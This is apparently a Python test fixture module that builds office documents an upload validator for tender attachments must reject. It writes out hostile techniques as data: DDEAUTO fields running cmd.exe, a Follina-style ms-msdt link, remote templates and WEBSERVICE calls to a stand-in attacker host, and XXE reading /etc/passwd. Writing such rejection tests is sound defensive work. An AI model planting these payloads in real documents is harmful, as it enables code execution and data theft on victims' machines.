"""DOCX, XLSX, ODT and ODS files that must be refused, each named by what it does."""

from tests.functions.tenders.attached.files.compound import compound, text
from tests.functions.tenders.attached.files.hostile_word import nested_fields, of_shown
from tests.functions.tenders.attached.files.packages import (
    BOOK_TYPE,
    ODS_TYPE,
    ODT_TYPE,
    content_types,
    docx,
    docx_parts,
    field,
    formula,
    odf,
    odf_parts,
    relations,
    word,
    xlsx,
    xlsx_parts,
    zipped,
)

File = tuple[str, bytes]

OLE = compound(text())
_MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
_DTD = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
_XXE = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'
_REMOTE = "https://attaquant.example/modele.dotm"
_SHARE = "file://///attaquant.example/partage/modele.dotm"


def of_word() -> dict[str, File]:
    """DOCX files that act, hold or fetch something."""
    made = {
        "macros": docx(("vbaProject", "vbaProject.bin"), more={"word/vbaProject.bin": b"x"}),
        "macros of another name": docx(more={"word/media/image1.png": OLE}),
        "macros by type": zipped(
            docx_parts() | {"[Content_Types].xml": content_types(("word/document.xml", _MACRO_TYPE))}
        ),
        "a template elsewhere": docx(("attachedTemplate", _REMOTE, "External")),
        "a template on a share": docx(("attachedTemplate", _SHARE, "External")),
        "a template on a short share": docx(("attachedTemplate", r"\\attaquant.example\a.dotm", "External")),
        "an object elsewhere": docx(("oleObject", "https://attaquant.example/a.hta", "External")),
        "an object of Follina": docx(("oleObject", "mhtml:https://attaquant.example/a.html!x-usc:a", "External")),
        "a frame elsewhere": docx(("frame", "https://attaquant.example/", "External")),
        "a picture elsewhere": docx(("image", "https://attaquant.example/a.png", "External")),
        "a link that runs": docx(("hyperlink", "ms-msdt:/id%20PCWDiagnostic", "External")),
        "a script in a link": docx(("hyperlink", "javascript:alert(1)", "External")),
        "an object": docx(("oleObject", "embeddings/oleObject1.bin"), more={"word/embeddings/oleObject1.bin": OLE}),
        "a package": docx(("package", "embeddings/a.xlsx"), more={"word/embeddings/a.xlsx": xlsx()}),
        "a control": docx(("control", "activeX/activeX1.xml"), more={"word/activeX/activeX1.xml": b"<a/>"}),
        "a page inside": docx(
            ("aFChunk", "a.html"), body='<w:altChunk r:id="rId1"/>', more={"word/a.html": b"<script/>"}
        ),
        "an add-in": docx(("webextensiontaskpanes", "webextensions/taskpanes.xml")),
        "a field that runs": docx(body=field(r" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; ")),
        "a field cut into pieces": docx(body=field("D", "DE", "AUTO cmd")),
        "a field spelt by numbers": docx(body=field(" QUOTE 68 68 69 65 85 84 79 ")),
        "a simple field": docx(body='<w:fldSimple w:instr="DDE cmd a"/>'),
        "a field that fetches": docx(body=field(" INCLUDEPICTURE &quot;https://attaquant.example/a&quot; ")),
        "a field in a header": docx(more={"word/header1.xml": word(field("DDE cmd"))}),
        "a declaration": docx(more={"word/footnotes.xml": b"<!DOCTYPE a><a/>"}),
        "entities": docx(more={"word/footnotes.xml": _DTD}),
        "an entity elsewhere": docx(more={"customXml/item1.xml": _XXE}),
        "entities in 16 bits": docx(more={"word/footnotes.xml": _DTD.decode().encode("utf-16")}),
        "a vector picture that runs": docx(
            more={"word/media/a.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="a()"/>'}
        ),
        "entities in an old drawing": docx(more={"word/a.vml": _DTD}),
        "a program inside": docx(more={"word/media/a.png": b"MZ" + bytes(64)}),
        "a PDF inside": docx(more={"word/media/a.png": b"%PDF-1.7 "}),
        "an archive inside": docx(more={"word/media/a.png": zipped({"a": b"a"})}),
        "an unknown part": docx(more={"word/a.hta": b"<script/>"}),
        "no type": zipped({name: part for name, part in docx_parts().items() if name != "[Content_Types].xml"}),
        "no text": zipped({name: part for name, part in docx_parts().items() if name != "_rels/.rels"}),
        "broken XML": docx(body="<w:p>"),
    }
    return {f"DOCX: {what}": ("a.docx", content) for what, content in (made | nested_fields() | of_shown()).items()}


def of_sheets() -> dict[str, File]:
    """XLSX files that act or fetch something."""
    link = (("externalLink", "externalLinks/externalLink1.xml"),)
    made = {
        "macros of before": xlsx(ties=(("xlMacrosheet", "macrosheets/sheet1.xml"),)),
        "a sheet of macros": zipped(xlsx_parts() | {"xl/macrosheets/sheet1.xml": b"<a/>"}),
        "a formula that runs": xlsx(formula("cmd|'/c calc'!A1")),
        "a formula that calls": xlsx(formula("CALL(&quot;urlmon&quot;,&quot;URLDownloadToFileA&quot;)")),
        "a formula that asks a server": xlsx(formula("_xlfn.WEBSERVICE(&quot;https://attaquant.example/&quot;)")),
        "a program asked": xlsx(
            ties=link, more={"xl/externalLinks/externalLink1.xml": b'<e><ddeLink ddeService="cmd"/></e>'}
        ),
        "an object asked": xlsx(ties=link, more={"xl/externalLinks/externalLink1.xml": b"<e><oleLink/></e>"}),
        "a workbook elsewhere": zipped(
            xlsx_parts(ties=link)
            | {
                "xl/externalLinks/externalLink1.xml": b"<e/>",
                "xl/externalLinks/_rels/externalLink1.xml.rels": relations(
                    ("externalLinkPath", "https://attaquant.example/a.xlsx", "External")
                ),
            }
        ),
        "data of the web": zipped(
            xlsx_parts() | {"xl/connections.xml": b'<c><connection><webPr url="a"/></connection></c>'}
        ),
        "data when it opens": zipped(xlsx_parts() | {"xl/connections.xml": b'<c><connection refreshOnLoad="1"/></c>'}),
        "data of a server": zipped(
            xlsx_parts()
            | {"xl/connections.xml": b'<connections><connection><dbPr connection="a"/></connection></connections>'}
        ),
        "a query": zipped(xlsx_parts() | {"xl/queryTables/queryTable1.xml": b'<queryTable refreshOnLoad="1"/>'}),
        "a name that asks a server": xlsx(
            formula("evil"), more=_named('_xlfn.WEBSERVICE("https://attaquant.example/")')
        ),
        "a name that runs": xlsx(formula("evil"), more=_named("cmd|'/c calc'!A1")),
        "a name that runs, between quotes": xlsx(formula("evil"), more=_named("'cmd'|'/c calc'!A1")),
        "a name on a share": xlsx(more=_named(r"'\\attaquant.example\a\[b.xlsx]c'!A1")),
        "a picture elsewhere": xlsx(formula('_xlfn.IMAGE("https://attaquant.example/x.png")')),
        "a call behind the name of a column": xlsx(formula('T[a"b]+WEBSERVICE("https://attaquant.example/")')),
        "a condition that asks a server": xlsx(
            more=_sheet(
                '<cfRule type="expression"><formula>WEBSERVICE("https://attaquant.example/")=1</formula></cfRule>'
            )
        ),
        "a bound that asks a server": xlsx(
            more=_sheet('<cfvo type="formula" val="WEBSERVICE(&quot;https://attaquant.example/&quot;)"/>')
        ),
        "a validation that asks a server": xlsx(
            more=_sheet(
                '<dataValidation><formula1>WEBSERVICE("https://attaquant.example/")</formula1></dataValidation>'
            )
        ),
        "a validation that asks a server last": xlsx(
            more=_sheet(
                '<dataValidation><formula2>WEBSERVICE("https://attaquant.example/")</formula2></dataValidation>'
            )
        ),
        "an object": zipped(xlsx_parts() | {"xl/embeddings/oleObject1.bin": OLE}),
        "macros by type": zipped(
            xlsx_parts()
            | {
                "[Content_Types].xml": content_types(
                    ("xl/workbook.xml", BOOK_TYPE.replace("sheet", "sheet.macroEnabled"))
                )
            }
        ),
    }
    return {f"XLSX: {what}": ("a.xlsx", content) for what, content in made.items()}


def _named(told: str) -> dict[str, bytes]:
    text = f'<workbook><sheets/><definedNames><definedName name="evil">{told}</definedName></definedNames></workbook>'
    return {"xl/workbook.xml": text.encode()}


def _sheet(inside: str) -> dict[str, bytes]:
    return {"xl/worksheets/sheet1.xml": f"<worksheet><sheetData/>{inside}</worksheet>".encode()}


def of_opendocument() -> dict[str, File]:
    """ODT and ODS files that act or fetch something."""
    script = 'xlink:href="vnd.sun.star.script:a.b?language=Basic&amp;location=document"'
    made = {
        "macros": zipped(odf_parts(ODT_TYPE) | {"Basic/Standard/Module1.xml": b"<a/>"}, stored=("mimetype",)),
        "a library of macros": zipped(
            odf_parts(ODT_TYPE) | {"Basic/Standard/script-lb.xml": b'<l><element name="Module1"/></l>'},
            stored=("mimetype",),
        ),
        "a script of Python": zipped(odf_parts(ODT_TYPE) | {"Scripts/python/a.py": b"import os"}, stored=("mimetype",)),
        "an event": odf(
            ODT_TYPE, scripts=f"<office:event-listeners><script:event-listener {script}/></office:event-listeners>"
        ),
        "a script in the text": odf(ODT_TYPE, '<text:script script:language="JavaScript">alert(1)</text:script>'),
        "a script in a link": odf(ODT_TYPE, f"<text:a {script}>a</text:a>"),
        "a script in a toolbar": zipped(
            odf_parts(ODT_TYPE) | {"Configurations2/toolbar/a.xml": b'<a xmlns:x="x" x:href="vnd.sun.star.script:a"/>'},
            stored=("mimetype",),
        ),
        "an object": zipped(
            odf_parts(ODT_TYPE, '<draw:object-ole xlink:href="./Object 1"/>') | {"Object 1": OLE}, stored=("mimetype",)
        ),
        "an object unseen": zipped(odf_parts(ODT_TYPE) | {"ObjectReplacements/Object 1": OLE}, stored=("mimetype",)),
        "a page elsewhere": odf(ODT_TYPE, '<draw:floating-frame xlink:href="https://attaquant.example/"/>'),
        "a picture elsewhere": odf(ODT_TYPE, '<draw:image xlink:href="https://attaquant.example/a.png"/>'),
        "a picture above": odf(ODT_TYPE, '<draw:image xlink:href="Pictures/../../x.png"/>'),
        "a picture told twice": odf(
            ODT_TYPE, '<draw:image xlink:href="https://attaquant.example/a.png" text:href="Pictures/a.png"/>'
        ),
        "a file elsewhere": odf(ODT_TYPE, '<text:section-source xlink:href="../../etc/passwd"/>'),
        "a program asked": odf(ODT_TYPE, '<office:dde-source office:dde-application="cmd"/>'),
        "entities": zipped(odf_parts(ODT_TYPE) | {"meta.xml": _DTD}, stored=("mimetype",)),
        "a password": zipped(
            odf_parts(ODT_TYPE) | {"META-INF/manifest.xml": b"<m><file-entry><encryption-data/></file-entry></m>"},
            stored=("mimetype",),
        ),
        "no text": zipped(
            {name: part for name, part in odf_parts(ODT_TYPE).items() if name != "content.xml"}, stored=("mimetype",)
        ),
    }
    sheets = {
        "a formula that runs": odf(
            ODS_TYPE, '<table:table-cell table:formula="of:=DDE(&quot;cmd&quot;;&quot;a&quot;)"/>'
        ),
        "a formula that asks a server": odf(
            ODS_TYPE,
            '<table:table-cell table:formula="of:=COM.MICROSOFT.WEBSERVICE(&quot;https://attaquant.example/&quot;)"/>',
        ),
        "a name that runs": odf(
            ODS_TYPE, '<table:named-expression table:expression="of:=DDE(&quot;cmd&quot;;&quot;a&quot;)"/>'
        ),
        "a condition that asks a server": odf(
            ODS_TYPE,
            '<table:content-validation table:condition="of:is-true-formula(WEBSERVICE(&quot;https://a&quot;))"/>',
        ),
        "a format that asks a server": odf(
            ODS_TYPE, '<table:condition table:value="formula-is(WEBSERVICE(&quot;https://attaquant.example/&quot;))"/>'
        ),
        "a cell elsewhere": odf(
            ODS_TYPE, """<table:table-cell table:formula="of:=['https://attaquant.example/a.ods'#$a.A1]"/>"""
        ),
        "a table elsewhere": odf(ODS_TYPE, '<table:table-source xlink:href="https://attaquant.example/a.ods"/>'),
    }
    return {f"ODT: {what}": ("a.odt", content) for what, content in made.items()} | {
        f"ODS: {what}": ("a.ods", content) for what, content in sheets.items()
    }
